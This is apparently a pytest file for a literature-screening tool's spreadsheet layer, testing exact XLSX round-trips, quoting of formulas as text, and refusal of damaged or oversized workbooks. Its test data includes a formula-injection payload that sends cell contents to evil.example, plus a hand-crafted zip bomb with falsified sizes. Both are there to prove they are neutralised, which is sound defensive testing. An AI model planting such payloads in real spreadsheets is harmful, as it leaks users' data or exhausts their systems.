"""Issue 15, sheets and snapshots at scale: the fast paths give what the full ones gave.

* XLSX: written by XlsxWriter (constant memory), read by calamine through pandas; every table
  reads back exactly, formulas stay text (a formula a person typed reads as its text), numbers
  stay numbers, a damaged or oversized file is named.
* Validation: whole columns at once, the row loop only to name the first bad row; both agree.
* Snapshot lookups: one folder listing, made again when the folder changes.
"""

from __future__ import annotations

import datetime as dt
import io
import logging
import os
import re
import zipfile
from unittest import mock

import openpyxl
import pandas as pd
import pytest
import xlsxwriter
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from reviewkit import screening, tables
from reviewkit.errors import ReviewkitError
from reviewkit.screening import sheet_columns, validate_sheet
from reviewkit.snapshot import Snapshot
from reviewkit.tables import read_xlsx, xlsx_bytes

TA = ("animal study", "review or meta-analysis", "other")
FT = ("wrong population", "other")


def _openpyxl_read(data: bytes) -> pd.DataFrame:
    """What read_xlsx gave before calamine: pandas and openpyxl."""
    return pd.read_excel(io.BytesIO(data), dtype=str, keep_default_na=False, engine="openpyxl").astype(object)


def _read(tmp_path, data: bytes, name: str = "t.xlsx") -> pd.DataFrame:
    path = tmp_path / name
    path.write_bytes(data)
    return read_xlsx(path).astype(object)


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1 call", "-2+3", "@SUM(1)", "\tx", "\rx", "-0.5",
           "a\r\nb", "  spaced  ", "_x0041_ literal", "x005F_", "bell\x07", "ünïcödé ✓", "", "1", "007", "1e5",
           "<r><t>rich?</t></r>", "</is><f>1+1</f>", "http://example.org", "'=quoted"]


def test_written_sheet_reads_back_exactly_and_formulas_stay_text(tmp_path):
    table = pd.DataFrame({"record_id": [f"PMID:{i}" for i in range(len(HOSTILE))], "notes": HOSTILE,
                          "=odd header": HOSTILE[::-1], "priority": [i + 1 for i in range(len(HOSTILE))]})
    data = xlsx_bytes(table, "title_abstract", widths=[16, 30], freeze="B2")
    expected = table.assign(priority=table["priority"].astype(str)).astype(object)
    pd.testing.assert_frame_equal(_read(tmp_path, data), expected)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws.freeze_panes == "B2" and round(ws.column_dimensions["A"].width) == 17  # 16 characters and padding
    formula = ws.cell(row=2, column=2)
    assert formula.value == HOSTILE[0] and formula.data_type == "s" and formula.quotePrefix
    assert ws.cell(row=1, column=3).value == "=odd header" and ws.cell(row=1, column=3).quotePrefix
    assert ws.cell(row=1, column=3).font.b and ws.cell(row=1, column=1).font.b
    assert ws.cell(row=2, column=4).data_type == "n"  # priority: a number a spreadsheet sorts as one
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


# The two kinds of text the libraries do not carry exactly (see reviewkit.tables): left out here.
_OVERLAPPING_ESCAPES = re.compile(r"_x[0-9A-Fa-f]{4}_x[0-9A-Fa-f]{4}_")
_piece = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", "_x0041_", "_x005F_", "x005F_", "\x01", "\x00",
                          "'", " ", "<r>", "</r>", "&", "<", "1", "é"])
_text = st.lists(st.one_of(_piece, st.text(st.characters(blacklist_categories=("Cs",),
                                                         blacklist_characters="\ufffe\uffff"), max_size=4)),
                 max_size=5).map("".join)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(_text, _text, st.integers(0, 10**6)), min_size=1, max_size=6))
def test_any_text_table_reads_back_the_same(rows):
    assume(not any(_OVERLAPPING_ESCAPES.search(t) for a, b, _ in rows for t in (a, b)))
    table = pd.DataFrame([[f"id{i}", a, b, str(n)] for i, (a, b, n) in enumerate(rows)],
                         columns=["record_id", "a", "b", "n"], dtype=object)
    data = xlsx_bytes(table.assign(n=[int(v) for v in table["n"]]), "s")
    with mock.patch.object(tables, "read_bytes", lambda *a, **k: data):
        pd.testing.assert_frame_equal(read_xlsx("unused.xlsx").astype(object), table)


def test_numbers_missing_values_dates_and_booleans_write_and_read_back(tmp_path):
    table = pd.DataFrame({"record_id": ["a", "b", "c"], "priority": [3, "", 10**12], "share": [0.25, 1.5, None],
                          "when": [dt.datetime(2024, 5, 1, 12, 30), pd.NaT, dt.datetime(2020, 1, 2)],
                          "flag": [True, False, None], "na": [pd.NA, float("nan"), "x"]})
    got = _read(tmp_path, xlsx_bytes(table, "s"))
    expected = pd.DataFrame({"record_id": ["a", "b", "c"], "priority": ["3", "", "1000000000000"],
                             "share": ["0.25", "1.5", ""], "when": ["2024-05-01 12:30:00", "", "2020-01-02 00:00:00"],
                             "flag": ["True", "False", ""], "na": ["", "", "x"]}, dtype=object)
    pd.testing.assert_frame_equal(got, expected)


def test_a_cell_longer_than_excel_allows_is_cut_with_a_warning(tmp_path, caplog):
    table = pd.DataFrame({"record_id": ["a"], "abstract": ["x" * 40_000]})
    with caplog.at_level(logging.WARNING, logger="reviewkit.tables"):
        data = xlsx_bytes(table, "s")
    assert "1 cell(s) longer than 32,767 characters" in caplog.text
    assert len(_read(tmp_path, data).loc[0, "abstract"]) == 32_767


def test_a_workbook_of_dates_booleans_fractions_and_blank_rows_reads_as_openpyxl_read_it(tmp_path):
    book = openpyxl.Workbook()
    ws = book.active
    ws.append(["record_id", "when", "flag", "share", "count", "rich"])
    ws.append(["a", dt.datetime(2024, 5, 1), True, 0.25, 3, "x"])
    ws.append(["b", dt.date(2020, 1, 2), False, 1.5, 4.0, "y"])
    ws.append([])
    ws.append(["c", None, None, None, None, "z"])
    buffer = io.BytesIO()
    book.save(buffer)
    data = buffer.getvalue()
    pd.testing.assert_frame_equal(_read(tmp_path, data), _openpyxl_read(data))


def test_a_spreadsheet_saved_with_shared_strings_and_numbers_reads_exactly(tmp_path):
    buffer = io.BytesIO()  # XlsxWriter's ordinary mode writes shared strings, as spreadsheet programs do
    book = xlsxwriter.Workbook(buffer, {"strings_to_numbers": False})
    ws = book.add_worksheet("title_abstract")
    ws.write_row(0, 0, ["record_id", "final", "priority", "notes"])
    for i in range(30):
        ws.write_row(i + 1, 0, [f"PMID:{i}", "include" if i % 3 else "", i + 1, "bell\x07\ttab" if i == 4 else f"n{i}"])
    book.close()
    assert "xl/sharedStrings.xml" in zipfile.ZipFile(buffer).namelist()
    got = _read(tmp_path, buffer.getvalue())
    assert got.loc[4, "notes"] == "bell\x07\ttab"  # stored as the escape _x0007_, decoded
    expected = pd.DataFrame({"record_id": [f"PMID:{i}" for i in range(30)],
                             "final": ["include" if i % 3 else "" for i in range(30)],
                             "priority": [str(i + 1) for i in range(30)],
                             "notes": ["bell\x07\ttab" if i == 4 else f"n{i}" for i in range(30)]}, dtype=object)
    pd.testing.assert_frame_equal(got, expected)


@pytest.mark.parametrize("cached", [None, 2])
def test_a_formula_a_person_typed_reads_as_its_text_with_a_warning(tmp_path, caplog, cached):
    """calamine gives a formula's cached result (or nothing): such a sheet is read by openpyxl, which
    gives the formula as typed; reviewkit keeps it as text, and says so."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    ws = book.add_worksheet("title_abstract")
    ws.write_row(0, 0, ["record_id", "notes", "priority"])
    ws.write_row(1, 0, ["PMID:1", "fine", 1])
    ws.write_string(2, 0, "PMID:2")
    ws.write_formula(2, 1, "=1+1", None, cached) if cached is not None else ws.write_formula(2, 1, "=1+1")
    ws.write_number(2, 2, 2)
    book.close()
    with caplog.at_level(logging.WARNING, logger="reviewkit.tables"):
        got = _read(tmp_path, buffer.getvalue(), "typed.xlsx")
    assert got["notes"].tolist() == ["fine", "=1+1"] and got["priority"].tolist() == ["1", "2"]
    assert "typed.xlsx: the table holds formulas" in caplog.text


def test_a_screening_sheet_with_a_typed_formula_keeps_it_as_quoted_text(tmp_path):
    sheet = _sheet("title_abstract", [{"record_id": "PMID:1", "title": "t", "final": "include"}])
    screening.write_sheet(tmp_path, "title_abstract", sheet)
    path = tmp_path / "title_abstract.xlsx"
    book = openpyxl.load_workbook(path)
    notes = [c.column for c in book.active[1] if c.value == "notes"][0]
    book.active.cell(row=2, column=notes).value = "=A1&A1"  # typed, not quote-prefixed
    book.save(path)
    got = screening.read_sheet(tmp_path, "title_abstract", TA)
    assert got.loc[0, "notes"] == "=A1&A1"


def test_a_damaged_or_foreign_workbook_is_named_and_its_content_not_echoed(tmp_path):
    data = xlsx_bytes(pd.DataFrame({"record_id": ["a"]}), "s")
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(ReviewkitError, match="cut.xlsx: cannot read the screening sheet"):
        read_xlsx(path, "screening sheet")
    path.write_text("record_id,notes\nPMID:1,secret words\n")
    with pytest.raises(ReviewkitError, match="cut.xlsx: cannot read the screening sheet") as caught:
        read_xlsx(path, "screening sheet")
    assert "secret" not in str(caught.value) and len(str(caught.value).splitlines()) == 1


def test_a_workbook_that_unpacks_too_large_is_refused(tmp_path):
    data = xlsx_bytes(pd.DataFrame({"record_id": ["a"] * 1000}), "s")
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(data)
    with mock.patch.object(tables, "MAX_UNPACKED_BYTES", 10_000), \
            pytest.raises(ReviewkitError, match="bomb.xlsx: cannot read the table .*unpacks to more than"):
        read_xlsx(path)
    # A part that says it is small but unpacks to more is caught too (zipfile checks it as it unpacks).
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in zipfile.ZipFile(io.BytesIO(data)).infolist():
            out.writestr(info.filename, zipfile.ZipFile(io.BytesIO(data)).read(info.filename)
                         + (b" " * 10**6 if info.filename.endswith("sheet1.xml") else b""))
    lying = bytearray(buffer.getvalue())
    for offset in [m.start() for m in re.finditer(rb"PK\x01\x02", lying)]:  # central directory: sizes said
        name_length = int.from_bytes(lying[offset + 28:offset + 30], "little")
        if lying[offset + 46:offset + 46 + name_length].endswith(b"sheet1.xml"):
            lying[offset + 24:offset + 28] = (100).to_bytes(4, "little")
    path.write_bytes(bytes(lying))
    with pytest.raises(ReviewkitError, match="bomb.xlsx: cannot read the table"):
        read_xlsx(path)


def _sheet(stage: str, rows: list[dict]) -> pd.DataFrame:
    return pd.DataFrame([{c: r.get(c, "") for c in sheet_columns(stage)} for r in rows], dtype=object)


_value = st.sampled_from(["", "include", " Include ", "EXCLUDE", "maybe", "yes", "no", "No", "other", "OTHER",
                          "animal study", "wrong population", "1", "12", "0", "x"])


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(["title_abstract", "full_text"]),
       st.lists(st.fixed_dictionaries({
           "record_id": st.sampled_from(["PMID:1", "PMID:2", "PMID:3", "PMID:4", "", " PMID:5 "]),
           "final": _value, "reviewer1": _value, "reviewer2": _value, "exclusion_reason": _value,
           "retrieved": _value, "priority": _value, "status": st.sampled_from(["", "no longer retrieved", "x"]),
           "suggestion": st.sampled_from(["", "exclude", "check", "?"])}), max_size=5))
def test_validation_on_whole_columns_agrees_with_the_row_loop(stage, rows):
    sheet = _sheet(stage, rows)
    reasons = TA if stage == "title_abstract" else FT

    def outcome(check):
        try:
            return check()
        except ReviewkitError as exc:
            return str(exc)

    fast = outcome(lambda: validate_sheet(sheet, stage, reasons, "f.csv"))
    with mock.patch.object(screening, "_normalised", lambda *a: None):
        slow = outcome(lambda: validate_sheet(sheet, stage, reasons, "f.csv"))
    if isinstance(slow, str):
        assert fast == slow
    else:
        pd.testing.assert_frame_equal(fast, slow)


def test_a_sheet_written_unchanged_is_not_written_again(tmp_path):
    sheet = _sheet("title_abstract", [{"record_id": "PMID:1", "title": "=cmd", "final": "include"}])
    assert screening.write_sheet(tmp_path, "title_abstract", sheet)
    before = {p.name: p.stat().st_mtime_ns for p in tmp_path.glob("title_abstract.*")}
    assert not screening.write_sheet(tmp_path, "title_abstract", sheet)
    assert {p.name: p.stat().st_mtime_ns for p in tmp_path.glob("title_abstract.*")} == before


# --- snapshot lookups --------------------------------------------------------------------------------------------

def test_exchange_lookups_see_answers_recorded_after_the_folder_was_listed(tmp_path):
    reader = Snapshot.create(tmp_path / "snap", sample=False, note="t")
    writer = Snapshot.open(tmp_path / "snap")
    params = {"db": "pubmed", "term": "x"}
    assert reader.versions("esearch", params) == []
    writer.put("esearch", params, b"<eSearchResult/>")
    assert reader.get("esearch", params).body == b"<eSearchResult/>"  # listed again: the folder is new
    # A listing older than the folder's last change is made again, however old the folder looks.
    folder = tmp_path / "snap" / "exchanges"
    os.utime(folder, ns=(0, 0))
    assert len(reader.versions("esearch", params)) == 1  # listed now, with the folder 1970-old: trusted
    writer.put("esearch", params, b"<eSearchResult><Count>1</Count></eSearchResult>")
    assert len(reader.versions("esearch", params)) == 2
    assert reader.get("esearch", params).body.endswith(b"</eSearchResult>")


def test_a_table_too_large_for_a_worksheet_is_refused_not_cut():
    with mock.patch.object(tables, "_EXCEL_ROWS", 3), pytest.raises(ReviewkitError, match="do not fit a worksheet"):
        xlsx_bytes(pd.DataFrame({"record_id": ["a", "b", "c"]}), "s")
